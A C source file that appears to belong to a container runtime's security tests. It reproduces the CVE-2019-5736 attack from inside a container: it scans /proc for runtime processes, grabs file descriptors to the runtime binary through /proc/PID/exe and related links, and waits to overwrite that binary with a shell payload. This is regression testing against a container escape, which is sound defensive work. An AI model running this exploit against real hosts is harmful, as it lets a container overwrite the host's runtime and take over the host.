/* The CVE-2019-5736 attack, run inside a container by tests/security/exe_overwrite.bats.
 * It looks for processes whose comm is "contain" (the runtime's clones before they execve:
 * a "created" init, an exec child, a `run` init joining a shared pid namespace), opens their
 * /proc/PID/exe and the other ptrace-guarded links, and, holding an fd of the binary, retries
 * opening it for writing until the runtime is gone, then overwrites it.
 *
 *   exe_attack init N INO     N rounds against pid 1 (the init of a "created" container); a
 *                             background writer keeps any fd it got until the binary is free
 *   exe_attack scan STOP INO  scan /proc until the file STOP exists, attack every "contain"
 *                             pid again and again, then try to write through what it got
 * INO is the runtime binary's inode: an fd counts as the runtime's only if it shows it (a pid
 * that exec'd its program during a round is the container's own process).
 *
 * Prints the first round against each pid ("pid P exe O_PATH: EACCES"), every success
 * ("... GOT fd N"), and a last line
 * "summary seen=S denied=D other=O got=G wrote=W".  Built -static for the busybox rootfs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_FDS 256

static int seen, denied, other, got, wrote;
static int exe_fds[MAX_FDS];
static int n_exe_fds;
static ino_t runtime_ino;   /* the runtime binary's inode: given by the test */

struct target {
        const char *name;
        int flags;
        int is_exe;
        int is_dir;     /* a directory of links: every entry is opened O_PATH */
};

/* What a non-dumpable process keeps to itself (ptrace_may_access guards each link). */
static const struct target targets[] = {
        { "exe", O_PATH, 1, 0 },
        { "exe", O_RDONLY, 1, 0 },
        { "root", O_PATH, 0, 0 },
        { "cwd", O_PATH, 0, 0 },
        { "environ", O_RDONLY, 0, 0 },
        { "mem", O_RDONLY, 0, 0 },
        { "fd", O_PATH, 0, 1 },
        { "map_files", O_PATH, 0, 1 },
};

static const char *flag_name(int flags)
{
        return (flags & O_PATH) ? "O_PATH" : "O_RDONLY";
}

static void now_ms_sleep(long ms)
{
        struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
        nanosleep(&ts, NULL);
}

static int is_runtime(int pid)
{
        char path[64], comm[32] = "";
        snprintf(path, sizeof(path), "/proc/%d/comm", pid);
        FILE *f = fopen(path, "re");
        if (!f)
                return 0;
        if (!fgets(comm, sizeof(comm), f))
                comm[0] = 0;
        fclose(f);
        return strncmp(comm, "contain", 7) == 0;
}

/* One round's results, committed only if the pid still ran the runtime's binary at its end:
 * a process that exec'd its program meanwhile is the container's own, fair game. */
struct round {
        int denied, other, got;
        int fds[MAX_FDS];
        int n_fds;
        char text[16384];
        size_t len;
};

static void say(struct round *r, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void say(struct round *r, const char *fmt, ...)
{
        va_list ap;
        va_start(ap, fmt);
        int n = vsnprintf(r->text + r->len, sizeof(r->text) - r->len, fmt, ap);
        va_end(ap);
        if (n > 0)
                r->len = r->len + (size_t)n < sizeof(r->text) ? r->len + (size_t)n : sizeof(r->text) - 1;
}

/* 1: pid runs the runtime's binary and lets us see it, 0: it runs another program,
 * -1: refused (EACCES/EPERM: a protected runtime process), -2: gone */
static int runs_runtime(int pid)
{
        char path[64];
        struct stat st;
        snprintf(path, sizeof(path), "/proc/%d/exe", pid);
        if (stat(path, &st) < 0)
                return errno == EACCES || errno == EPERM ? -1 : -2;
        return st.st_ino == runtime_ino;
}

static int is_runtime_fd(int fd)
{
        struct stat st;
        return fstat(fd, &st) == 0 && st.st_ino == runtime_ino;
}

/* Opens path; counts and (when verbose, or on success) records the result; keeps exe fds. */
static void try_open(struct round *r, int pid, const char *path, const char *what, int flags, int is_exe,
                     int verbose)
{
        int fd = open(path, flags | O_CLOEXEC);
        if (fd < 0) {
                int e = errno;
                if (verbose)
                        say(r, "pid %d %s %s: %s\n", pid, what, flag_name(flags), strerrorname_np(e));
                if (e == EACCES || e == EPERM)
                        r->denied++;
                else
                        r->other++;
                return;
        }
        r->got++;
        say(r, "pid %d %s %s: GOT fd %d\n", pid, what, flag_name(flags), fd);
        if (is_exe && r->n_fds < MAX_FDS)
                r->fds[r->n_fds++] = fd;
        else
                close(fd);
}

/* One round against pid: every target (each entry of fd/ and map_files/); exe fds are kept.
 * Returns 0 when pid no longer runs the runtime's binary (nothing left to attack). */
static int attack_pid(int pid, int verbose)
{
        static struct round r;
        memset(&r, 0, sizeof(r));
        if (runs_runtime(pid) == 0)
                return 0;
        for (size_t i = 0; i < sizeof(targets) / sizeof(targets[0]); i++) {
                const struct target *t = &targets[i];
                char path[300];
                snprintf(path, sizeof(path), "/proc/%d/%s", pid, t->name);
                if (!t->is_dir) {
                        try_open(&r, pid, path, t->name, t->flags, t->is_exe, verbose);
                        continue;
                }
                /* listing is allowed (the dir belongs to root); following an entry is not */
                DIR *d = opendir(path);
                if (!d) {
                        try_open(&r, pid, path, t->name, O_RDONLY | O_DIRECTORY, 0, verbose);
                        continue;
                }
                struct dirent *e;
                int n = 0;
                while ((e = readdir(d))) {
                        if (e->d_name[0] == '.')
                                continue;
                        char entry[600], what[300];
                        snprintf(entry, sizeof(entry), "%s/%s", path, e->d_name);
                        snprintf(what, sizeof(what), "%s/%s", t->name, e->d_name);
                        try_open(&r, pid, entry, what, t->flags, 0, verbose && n++ < 3);
                }
                closedir(d);
        }
        /* what we opened belongs to the container's own program if the pid exec'd (or
         * exited) during the round, unless an exe fd shows the runtime's binary */
        int runtime_fd = 0;
        for (int i = 0; i < r.n_fds; i++)
                runtime_fd |= is_runtime_fd(r.fds[i]);
        int now = r.got && !runtime_fd ? runs_runtime(pid) : 1;
        if (now == 0 || now == -2) {
                for (int i = 0; i < r.n_fds; i++)
                        close(r.fds[i]);
                if (verbose)
                        printf("pid %d exec'd its program during the round: round not counted\n", pid);
                other += r.got;
                return 0;
        }
        fwrite(r.text, 1, r.len, stdout);
        fflush(stdout);
        denied += r.denied;
        other += r.other;
        got += r.got;
        for (int i = 0; i < r.n_fds; i++) {
                if (is_runtime_fd(r.fds[i]) && n_exe_fds < MAX_FDS)
                        exe_fds[n_exe_fds++] = r.fds[i];
                else
                        close(r.fds[i]);
        }
        return 1;
}

/* Reopens each exe fd for writing until the binary is no longer running anywhere (ETXTBSY),
 * for up to secs seconds, and overwrites its first bytes. */
static void write_through(int secs)
{
        for (int i = 0; i < n_exe_fds; i++) {
                char path[64];
                snprintf(path, sizeof(path), "/proc/self/fd/%d", exe_fds[i]);
                for (int tries = 0; tries < secs * 100; tries++) {
                        int w = open(path, O_WRONLY | O_CLOEXEC);
                        if (w >= 0) {
                                static const char payload[] = "#!/bin/sh\necho container payload ran\n";
                                if (pwrite(w, payload, sizeof(payload) - 1, 0) > 0) {
                                        wrote++;
                                        printf("WROTE the binary through fd %d\n", exe_fds[i]);
                                }
                                close(w);
                                break;
                        }
                        if (errno != ETXTBSY) {
                                printf("reopen fd %d for writing: %s\n", exe_fds[i], strerrorname_np(errno));
                                break;
                        }
                        now_ms_sleep(10);
                }
        }
}

static void summary(void)
{
        printf("summary seen=%d denied=%d other=%d got=%d wrote=%d\n", seen, denied, other, got, wrote);
        fflush(stdout);
}

static int attack_init(int rounds)
{
        for (int r = 0; r < rounds; r++) {
                if (!is_runtime(1)) {
                        printf("pid 1 is not the runtime's init\n");
                        other++;
                        continue;
                }
                seen++;
                attack_pid(1, 1);
        }
        if (n_exe_fds == 0) {
                summary();
                return 0;
        }
        /* the init maps the binary until `start`: a writer waits for it in the background */
        printf("writer waits for the binary to be free\n");
        summary();
        if (fork() == 0) {
                setsid();
                write_through(20);
                summary();
                _exit(0);
        }
        return 0;
}

static int attack_scan(const char *stop)
{
        static char attacked[1 << 16];
        time_t deadline = time(NULL) + 300;
        while (access(stop, F_OK) < 0 && time(NULL) < deadline) {
                DIR *d = opendir("/proc");
                if (!d)
                        return 1;
                struct dirent *e;
                while ((e = readdir(d))) {
                        int pid = atoi(e->d_name);
                        if (pid <= 1 || pid == getpid() || pid >= (int)sizeof(attacked))
                                continue;
                        if (!is_runtime(pid))
                                continue;
                        /* again and again while it runs the runtime's code: its credentials
                         * and capabilities change on the way to execve */
                        if (!attacked[pid]) {
                                attacked[pid] = 1;
                                seen++;
                        }
                        /* the first round that gets to run is printed in full */
                        int verbose = attacked[pid] == 1;
                        if (attack_pid(pid, verbose) && verbose)
                                attacked[pid] = 2;
                }
                closedir(d);
        }
        write_through(10);
        summary();
        return 0;
}

int main(int argc, char **argv)
{
        signal(SIGCHLD, SIG_IGN);       /* the background writer is nobody's business */
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc == 4)
                runtime_ino = (ino_t)strtoull(argv[3], NULL, 10);
        if (argc == 4 && strcmp(argv[1], "init") == 0)
                return attack_init(atoi(argv[2]));
        if (argc == 4 && strcmp(argv[1], "scan") == 0)
                return attack_scan(argv[2]);
        fprintf(stderr, "usage: exe_attack init ROUNDS INODE | scan STOPFILE INODE\n");
        return 2;
}
